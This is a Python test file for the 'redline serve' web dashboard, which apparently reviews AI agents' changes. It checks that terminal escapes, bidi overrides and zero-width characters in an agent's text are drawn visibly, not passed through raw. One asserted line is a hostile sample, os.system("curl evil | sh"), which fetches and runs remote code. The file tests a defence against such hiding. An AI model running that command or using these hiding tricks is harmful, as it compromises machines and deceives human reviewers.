"""``redline serve``: the dashboard process each browser tab runs (started as
textual-serve starts it, with Textual's web driver) draws an agent's hidden characters
shown, as the terminal dashboard and ``redline pending show`` do."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

from tests.tui.test_hostile_text import BIDI, HIDING, LABEL, PUSH

from redline.cli import build_parser
from redline.commands.serve import child_command


def read_packets(
    stdout: object, data: list[bytes], ready: threading.Event, seen: threading.Event
) -> None:
    """textual-serve's reading of the app's stdout: a prelude line, then packets
    (``seen`` is set once the hidden line's text has been drawn, or the app ended)."""
    stream = stdout  # a binary file
    for _ in range(10):
        line = stream.readline()  # type: ignore[attr-defined]
        if not line or line == b"__GANGLION__\n":
            break
    ready.set()
    while True:
        head = stream.read(5)  # type: ignore[attr-defined]
        if len(head) < 5:
            seen.set()
            return
        payload = stream.read(int.from_bytes(head[1:], "big"))  # type: ignore[attr-defined]
        if head[:1] == b"D":
            data.append(payload)
            if b"os.system" in b"".join(data):
                seen.set()


def packet(kind: bytes, payload: dict[str, object]) -> bytes:
    body = json.dumps(payload).encode()
    return kind + len(body).to_bytes(4, "big") + body


def test_serve_draws_hidden_characters_shown(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("a = 1\n")
    env = {
        **os.environ,
        "REDLINE_CONFIG_DIR": str(tmp_path / "config"),
        "TEXTUAL_DRIVER": "textual.drivers.web_driver:WebDriver",
        "TEXTUAL_FPS": "60",
        "TEXTUAL_COLOR_SYSTEM": "truecolor",
        "TERM_PROGRAM": "textual",
        "COLUMNS": "220",
        "ROWS": "50",
    }
    subprocess.run(
        [sys.executable, "-c", PUSH, str(root), LABEL, HIDING, BIDI],
        env=env,
        timeout=120,
        check=True,
        capture_output=True,
    )
    argv = child_command(build_parser().parse_args(["serve", "-C", str(root)]), str(root))
    child = subprocess.Popen(
        argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
    )
    data: list[bytes] = []
    ready, seen = threading.Event(), threading.Event()
    reader = threading.Thread(
        target=read_packets, args=(child.stdout, data, ready, seen), daemon=True
    )
    reader.start()
    try:
        assert ready.wait(120)
        assert child.stdin is not None
        child.stdin.write(packet(b"M", {"type": "resize", "width": 220, "height": 50}))
        child.stdin.flush()
        seen.wait(120)  # a guard against a hang, not a measurement
        drawn = b"".join(data)
        assert b'\\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in drawn, drawn[-2000:]
        assert b"<U+202E>" in drawn and "⚠".encode() in drawn
        # None of the agent's own escapes or format characters reached the browser's
        # terminal raw (Textual's own escapes draw the screen around them).
        assert b"\x1b[2K\x1b[1G" not in drawn and b"\x1b[1A[bold]" not in drawn
        for raw in ("\u202e", "\u2066", "\u200b"):
            assert raw.encode() not in drawn
        child.stdin.write(packet(b"M", {"type": "quit"}))
        child.stdin.flush()
    finally:
        try:
            child.wait(timeout=30)
        except subprocess.TimeoutExpired:
            child.kill()
            child.wait()
